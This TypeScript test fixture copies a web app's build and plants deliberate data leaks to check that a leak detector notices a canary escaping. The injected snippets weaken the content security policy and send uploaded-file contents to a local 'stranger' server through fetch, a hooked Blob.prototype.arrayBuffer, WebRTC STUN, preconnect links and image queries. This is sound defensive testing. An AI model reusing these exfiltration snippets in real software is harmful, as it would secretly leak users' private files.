import { createHash } from 'node:crypto';
import { cpSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { filesOf } from './host';
import type { HitServer } from './hit-server';
import { dist } from './session';

/** A build with a hole and something that leaks through it. */
export interface LeakyBuild {
  readonly file: 'site' | 'single file';
  /** Changes the files of a copy of the build. */
  plant(folder: string, stranger: Pick<HitServer, 'port' | 'udpPort'>): void;
  /** What a count must find. */
  readonly found: readonly RegExp[];
}

/** A script that waits for a file and has its first cells. */
const whenFileComes = (leak: string) => `
addEventListener('change', async ({ target }) => {
  const cell = encodeURIComponent((await target.files[0].text()).slice(0, 300));
  ${leak}
}, true);`;

/** The leaks, by what they do. */
export const LEAKY: Readonly<Record<string, LeakyBuild>> = {
  'the page sends a cell to a stranger': {
    file: 'site',
    plant: (folder, { port }) => {
      edit(folder, 'index.html', "connect-src 'none'", 'connect-src *');
      append(folder, whenFileComes(`fetch('http://127.0.0.1:${port}/page?' + cell, { mode: 'no-cors' });`));
    },
    found: [/stranger: http GET \/page\?.*kanari/],
  },
  'the single file sends a cell to a stranger': {
    file: 'single file',
    plant: (folder, { port }) => {
      edit(folder, 'coterie.html', "connect-src 'none'", 'connect-src *');
      appendInline(folder, whenFileComes(`fetch('http://127.0.0.1:${port}/page?' + cell, { mode: 'no-cors' });`));
    },
    found: [/stranger: http GET \/page\?.*kanari/],
  },
  'the engine sends a cell to a stranger': {
    file: 'site',
    plant: (folder, { port }) => {
      edit(folder, 'index.html', "connect-src 'none'", 'connect-src *');
      const leak =
        'const read=Blob.prototype.arrayBuffer;Blob.prototype.arrayBuffer=async function(){const bytes=await read.call(this);' +
        `fetch("http://127.0.0.1:${port}/worker?"+encodeURIComponent(new TextDecoder().decode(bytes).slice(0,300)),{mode:"no-cors"});` +
        'return bytes};';
      const worker = named(folder, /engine\.worker/);
      // The worker is a text, in whichever quotes the build found shorter.
      const quote = /=(['`])\(function\(\)\{/.exec(read(folder, worker))?.[1] ?? '`';
      edit(folder, worker, `${quote}(function(){`, () => `${quote}${leak}(function(){`);
    },
    found: [/stranger: http GET \/worker\?.*kanari/],
  },
  'the page asks its own host with a cell in the query': {
    file: 'site',
    plant: (folder) => {
      edit(folder, 'index.html', 'img-src data:', "img-src 'self' data:");
      edit(folder, named(folder, /lockdown/), 'img-src data:', "img-src 'self' data:");
      append(folder, whenFileComes(`new Image().src = './?' + cell;`));
    },
    found: [/host: GET .*\?.*kanari/],
  },
  'the page calls a peer and opens a connection by what it took before it was locked down': {
    file: 'site',
    plant: (folder, { port, udpPort }) => {
      prepend(
        folder,
        named(folder, /lockdown/),
        'const Peer = RTCPeerConnection, setRel = Element.prototype.setAttribute;\n',
      );
      appendTo(
        folder,
        named(folder, /lockdown/),
        whenFileComes(`
          const peer = new Peer({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }] });
          peer.createDataChannel('x');
          await peer.setLocalDescription(await peer.createOffer());
          const link = document.createElement('link');
          link.href = 'http://127.0.0.1:${port}';
          setRel.call(link, 'rel', 'preconnect');
          document.head.append(link);`),
      );
    },
    found: [/stranger: udp/, /stranger: connection/],
  },
  'the page shows, stores and logs a cell': {
    file: 'site',
    plant: (folder) =>
      append(
        folder,
        whenFileComes(
          `document.title = cell; localStorage.setItem('kept', cell); console.log(cell); location.hash = cell;`,
        ),
      ),
    found: [/title: .*kanari/, /localStorage: .*kanari/, /console: .*kanari/, /address: .*kanari/],
  },
};

/** Copies the build and plants a leak in the copy. */
export function plantLeak(leak: LeakyBuild, folder: string, stranger: Pick<HitServer, 'port' | 'udpPort'>): void {
  cpSync(dist, folder, { recursive: true, dereference: true });
  leak.plant(folder, stranger);
}

const entry = (folder: string) => /src="\.\/(assets\/index-[^"]+)"/.exec(read(folder, 'index.html'))![1]!;
const append = (folder: string, script: string) => appendTo(folder, entry(folder), script);
const appendTo = (folder: string, file: string, script: string) => write(folder, file, read(folder, file) + script);
const prepend = (folder: string, file: string, script: string) => write(folder, file, script + read(folder, file));

/** Adds to the one script of the single file, and allows it under its new hash. */
function appendInline(folder: string, script: string): void {
  const page = read(folder, 'coterie.html');
  const before = /<script type="module"[^>]*>([\s\S]*?)<\/script>/.exec(page)![1]!;
  const after = before + script;
  const changed = page.replace(before, () => after).replace(hashOf(before), () => hashOf(after));
  if (!changed.includes(hashOf(after))) throw new Error('the policy does not hold the hash of the script');
  write(folder, 'coterie.html', changed);
}

function edit(folder: string, file: string, from: string, to: string | (() => string)): void {
  const text = read(folder, file);
  if (!text.includes(from)) throw new Error(`${file} does not contain ${from}`);
  write(folder, file, text.replace(from, to as string));
}

function named(folder: string, pattern: RegExp): string {
  return filesOf(folder).find((file) => pattern.test(path.basename(file)))!;
}

const hashOf = (text: string) => createHash('sha256').update(text).digest('base64');
const read = (folder: string, file: string) => readFileSync(path.join(folder, file), 'utf8');
const write = (folder: string, file: string, text: string) => writeFileSync(path.join(folder, file), text);
